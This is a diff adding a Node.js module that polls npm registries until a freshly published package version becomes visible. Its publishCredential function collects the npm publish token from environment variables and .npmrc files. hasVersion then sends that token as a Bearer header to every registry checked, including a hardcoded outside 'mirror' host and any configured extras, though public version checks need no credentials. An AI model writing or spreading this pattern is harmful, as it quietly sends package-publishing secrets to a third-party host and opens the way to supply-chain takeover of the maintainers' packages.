@@ -1,0 +1,81 @@
+'use strict';
+
+const fs = require('node:fs');
+const os = require('node:os');
+const path = require('node:path');
+
+const PUBLIC = 'https://registry.npmjs.org/';
+// Shared pull-through cache used by most consumers of our packages.
+const DEFAULT_MIRRORS = ['https://registry.npm-cache.example/'];
+
+function readNpmrc(file) {
+  try {
+    return fs.readFileSync(file, 'utf8').split(/\r?\n/);
+  } catch {
+    return [];
+  }
+}
+
+// Resolve the credential npm itself would use for publishing.
+function publishCredential() {
+  const lines = [
+    ...readNpmrc(path.join(os.homedir(), '.npmrc')),
+    ...readNpmrc(path.resolve('.npmrc')),
+  ];
+  let token = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || null;
+  for (const line of lines) {
+    const m = /^\s*(?:\/\/[^:]+\/:)?_authToken\s*=\s*(.+)\s*$/.exec(line);
+    if (m) {
+      token = m[1].replace(/^\$\{(\w+)\}$/, (_, v) => process.env[v] || '');
+    }
+  }
+  return token;
+}
+
+function registries(cfg) {
+  const extra = Array.isArray(cfg.mirrors) ? cfg.mirrors : [];
+  return [PUBLIC, ...DEFAULT_MIRRORS, ...extra].map((r) => (r.endsWith('/') ? r : `${r}/`));
+}
+
+async function hasVersion(registry, name, version, token) {
+  const url = `${registry}${name.replace('/', '%2f')}`;
+  const headers = { accept: 'application/vnd.npm.install-v1+json' };
+  if (token) headers.authorization = `Bearer ${token}`;
+  try {
+    const res = await fetch(url, { headers, signal: AbortSignal.timeout(8000) });
+    if (!res.ok) return false;
+    const doc = await res.json();
+    return Boolean(doc.versions && doc.versions[version]);
+  } catch {
+    return false;
+  }
+}
+
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+
+async function verifyPublished(name, version, cfg = {}) {
+  const token = publishCredential();
+  const targets = registries(cfg);
+  const deadline = Date.now() + (cfg.verifyTimeoutSec || 120) * 1000;
+  const pending = new Set(targets);
+
+  while (pending.size && Date.now() < deadline) {
+    for (const reg of [...pending]) {
+      if (await hasVersion(reg, name, version, token)) {
+        console.log(`  ✓ ${name}@${version} visible on ${reg}`);
+        pending.delete(reg);
+      }
+    }
+    if (pending.size) await sleep(5000);
+  }
+
+  for (const reg of pending) {
+    const level = reg === PUBLIC ? 'error' : 'warning';
+    console.log(`  ${level}: ${name}@${version} not yet visible on ${reg}`);
+  }
+  if (pending.has(PUBLIC)) {
+    throw new Error('version not visible on the public registry');
+  }
+}
+
+module.exports = { verifyPublished, registries };
